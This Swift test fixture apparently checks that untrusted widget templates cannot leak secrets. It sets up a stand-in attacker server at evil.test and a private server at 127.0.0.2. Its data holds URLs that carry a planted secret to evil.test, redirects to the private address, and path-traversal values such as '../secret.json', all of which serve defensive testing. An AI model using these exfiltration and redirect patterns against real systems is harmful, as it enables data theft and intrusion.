import Foundation
import HTTPClient
import TemplateData
import TestSupport
import WidgetTimeline
import WidgetUI

@testable import WidgetTemplates

/// A machine under attack: a private server, a file and pushed data that all contain a secret, and
/// servers of the attacker that record the requests.
final class AttackScenario {
  static let secret = "S3CRET"

  /// The attacker's public server: `EVIL` in a template.
  let attackerServer: LoopbackServer
  /// The server at 127.0.0.2, the only private address of these tests: `LOCAL` in a template.
  let privateServer: LoopbackServer
  let folder: TemporaryFolder
  private let test = TestDataAccess()

  /// The members of each source; the values from an attacker's server point to the private one.
  private static let members = ["base", "home", "url", "token", "path", "dots"]

  init() throws {
    folder = try TemporaryFolder()
    let ports = Ports()
    let local = try LoopbackServer(address: INADDR_LOOPBACK + 1) { request in
      ports.localAnswer(to: request.path)
    }
    let evil = try LoopbackServer { request in ports.evilAnswer(to: request.path) }
    ports.set(local: local.port, evil: evil.port)
    (self.privateServer, self.attackerServer) = (local, evil)
    try folder.write(ports.privateObject, to: "secret.json")
    try folder.write(ports.privateObject, to: "data/inside.json")
    try folder.write(Self.calendar(evil.port), to: "secret.ics")
    try PushedData(folder: folder.path + "/pushed")
      .set(Array(ports.privateObject.utf8), kind: "attack", source: "pushed", at: test.now)
  }

  /// Fetches the sources of a template.
  ///
  /// - Parameters:
  ///   - sources: The member `sources` of `widget.json`, with `EVIL` and `LOCAL` for the servers.
  ///   - values: The values that the user set.
  ///   - trusts: Whether the template is trusted.
  /// - Returns: The data of each source, by its name.
  /// - Throws: An error if the template is invalid.
  func run(
    _ sources: String, _ values: [String: String] = [:], trusts: Bool = false
  ) throws -> [String: FetchedData] {
    let names = try JSONSerialization.jsonObject(with: Data(sources.utf8)) as? [String: Any] ?? [:]
    let sample = names.mapValues { source -> Any in
      switch (source as? [String: Any])?["format"] as? String {
      case "feed": ["items": [["title": "", "link": ""]]]
      case "calendar": ["events": [["title": "", "url": ""]]]
      case "text": ""
      case "picture": "picture.png"
      default: Dictionary(uniqueKeysWithValues: Self.members.map { ($0, "") })
      }
    }
    try folder.write(placed(Self.widget(sources)), to: "attack/widget.json")
    try Data(JSONSerialization.data(withJSONObject: sample))
      .write(to: URL(fileURLWithPath: folder.path + "/attack/sample.json"))
    try folder.write(
      "struct AttackView: View {\nlet entry: Entry\nvar body: some View {\nText(\"\")\n}\n}\n",
      to: "attack/views.swift")
    let template = folder.path + "/attack"
    let trust = TemplateTrust(folder: folder.path + "/state")
    if trusts { try trust.trust(template) } else { try trust.revoke(template) }
    let run = TemplateRun(
      template: try LoadedTemplate(folder: template).compiled(), folder: template,
      templateEnvironment: templateEnvironment(trust),
      values: values.mapValues { .string(placed($0)) },
      setNames: Set(values.keys), now: test.now,
      environment: EnvironmentValues())
    let described = run.template.description.sources
    return Dictionary(uniqueKeysWithValues: zip(described.map(\.name), try run.fetch(described)))
  }

  private func templateEnvironment(_ trust: TemplateTrust) -> TemplateEnvironment {
    let names =
      ["evil.test", "other.test"].map { "\($0):\(attackerServer.port):127.0.0.1" }
      + ["private.test:\(privateServer.port):127.0.0.2"]
    let http = CurlHTTPClient(resolves: names) { $0.suffix(4) == [127, 0, 0, 2] }
    let test = test
    return TemplateEnvironment(
      dataAccess: { _, timeZone in
        DataAccess(
          now: { test.now }, http: http, commands: SystemCommandRunner(environment: [:]),
          secrets: SystemSecretReader(environment: ["KEY": Self.secret]), timeZone: timeZone)
      },
      cache: DataCache(folder: folder.path + "/cache"),
      pushed: PushedData(folder: folder.path + "/pushed"), trust: trust)
  }

  private func placed(_ text: String) -> String {
    text.replacingOccurrences(of: "EVIL", with: "evil.test:\(attackerServer.port)")
      .replacingOccurrences(of: "OTHER", with: "other.test:\(attackerServer.port)")
      .replacingOccurrences(of: "LOCAL", with: "127.0.0.2:\(privateServer.port)")
      .replacingOccurrences(of: "PORT", with: "\(privateServer.port)")
      .replacingOccurrences(of: "FOLDER", with: folder.path)
  }

  private static func widget(_ sources: String) -> String {
    #"""
    { "parameters": {
        "server": { "type": "url", "default": "http://EVIL" },
        "standard": { "type": "url", "default": "http://LOCAL" },
        "pick": { "type": "choice", "choices": [{ "value": "none" }, { "value": "http://LOCAL", "title": "Berlin" },
          { "value": "FOLDER/secret.json", "title": "Paris" }] },
        "file": { "type": "string", "default": "sample.json" },
        "key": { "type": "string", "default": "" } },
      "sources": \#(sources) }
    """#
  }

  private static func calendar(_ port: UInt16) -> String {
    """
    BEGIN:VCALENDAR\r
    VERSION:2.0\r
    BEGIN:VEVENT\r
    UID:1\r
    SUMMARY:\(secret)\r
    DTSTART:20261122T120000Z\r
    URL:http://evil.test:\(port)/\(secret)\r
    END:VEVENT\r
    END:VCALENDAR\r

    """
  }

  /// The content of the servers, which contains their ports.
  private final class Ports: Sendable {
    nonisolated(unsafe) private var local: UInt16 = 0
    nonisolated(unsafe) private var evil: UInt16 = 0

    func set(local: UInt16, evil: UInt16) { (self.local, self.evil) = (local, evil) }

    /// Private data that contains links planted by the attacker.
    var privateObject: String {
      #"""
      { "base": "http://evil.test:\#(evil)", "home": "http://\#(AttackScenario.secret)", "token": "\#(AttackScenario.secret)",
        "url": "http://evil.test:\#(evil)/\#(AttackScenario.secret)", "path": "../secret.json", "dots": ".." }
      """#
    }

    func localAnswer(to path: String) -> String {
      switch path {
      case "/feed":
        LoopbackServer.response(
          "200 OK", [],
          "<rss><channel><title>a</title><item><title>\(AttackScenario.secret)</title>"
            + "<link>http://evil.test:\(evil)/\(AttackScenario.secret)</link></item></channel></rss>"
        )
      case "/go/\(AttackScenario.secret)":
        LoopbackServer.response(
          "302 Found", ["Location: http://evil.test:\(evil)/\(AttackScenario.secret)"])
      default: LoopbackServer.response("200 OK", [], privateObject)
      }
    }

    func evilAnswer(to path: String) -> String {
      switch path {
      case "/to-local":
        LoopbackServer.response("302 Found", ["Location: http://127.0.0.2:\(local)/led"])
      case "/to-other":
        LoopbackServer.response("302 Found", ["Location: http://other.test:\(evil)/other"])
      default:
        LoopbackServer.response(
          "200 OK", [],
          #"""
          { "base": "http://evil.test:\#(evil)", "home": "http://127.0.0.2:\#(local)/", "token": "evil",
            "url": "http://other.test:\#(evil)/public", "path": "../secret.json", "dots": ".." }
          """#)
      }
    }
  }
}
